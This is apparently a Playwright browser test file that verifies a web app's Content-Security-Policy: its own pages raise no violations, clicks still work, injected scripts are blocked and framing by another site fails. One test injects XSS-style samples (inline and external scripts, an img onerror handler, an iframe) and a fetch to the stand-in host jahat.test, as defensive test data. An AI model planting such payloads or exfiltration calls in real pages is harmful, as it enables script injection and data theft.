"""The Content-Security-Policy in a real browser: it stops what does not belong here, and nothing of ours."""

from typing import Any

import pytest
from playwright.sync_api import expect

from tests.browser.test_pages import PAGES, settle

pytestmark = pytest.mark.peramban
WATCH = """addEventListener("securitypolicyviolation", (e) => {
    (window.langgar = window.langgar || []).push(`${e.effectiveDirective} ${e.blockedURI}`);
});"""
# protobuf.js tries WebAssembly for 64-bit numbers and falls back to plain arithmetic by itself.
KNOWN = {"script-src wasm-eval"}


def broken(page: Any) -> set[str]:
    """Return what the policies of the page and of its frames stopped."""
    return {each for frame in page.frames for each in frame.evaluate("window.langgar || []")}


@pytest.mark.parametrize("path", PAGES)
def test_no_page_of_ours_meets_the_policy(peladen: str, peramban: Any, path: str) -> None:
    page = peramban.new_page()
    page.add_init_script(WATCH)
    page.goto(f"{peladen}/{path}")
    settle(page)
    page.wait_for_timeout(1500)
    assert broken(page) <= KNOWN
    page.close()


def test_the_heatmap_still_listens_to_a_click(peladen: str, peramban: Any) -> None:
    page = peramban.new_page(viewport={"width": 1366, "height": 900})
    page.goto(f"{peladen}/parameter")
    settle(page)
    page.locator("tr[data-baris=SS05] td").nth(4).click()
    page.wait_for_url("**parameter=SS05**", timeout=15_000)
    page.close()


def test_a_script_that_slips_into_the_page_does_not_run(peladen: str, peramban: Any) -> None:
    page = peramban.new_page()
    page.add_init_script(WATCH)
    page.goto(f"{peladen}/metode")
    settle(page)
    page.evaluate(
        """() => {
            const add = (make) => { const s = document.createElement("script"); make(s); document.body.append(s); };
            add((s) => { s.textContent = "window.jahat = 1"; });
            add((s) => { s.src = "https://jahat.test/a.js"; });
            document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.jahat = 2'>");
            document.body.insertAdjacentHTML("beforeend", "<iframe src='https://jahat.test/'></iframe>");
            fetch("https://jahat.test/?curi").catch(() => {});
        }"""
    )
    page.wait_for_timeout(1000)
    assert page.evaluate("window.jahat") is None
    stopped = {each.split()[0] for each in broken(page)}
    assert {"script-src-elem", "script-src-attr", "frame-src", "connect-src"} <= stopped
    page.close()


def test_another_site_cannot_frame_a_page(peladen: str, peramban: Any) -> None:
    page = peramban.new_page()
    other = peladen.replace("127.0.0.1", "localhost")  # the same server under another name is another site
    page.route(
        f"{other}/bingkai",
        lambda route: route.fulfill(body=f"<iframe src='{peladen}/'></iframe>", content_type="text/html"),
    )
    page.goto(f"{other}/bingkai")
    page.wait_for_timeout(2000)
    expect(page.locator("iframe")).to_have_count(1)
    assert all("chrome-error" in frame.url or frame.url == "about:blank" for frame in page.frames[1:])
    page.close()
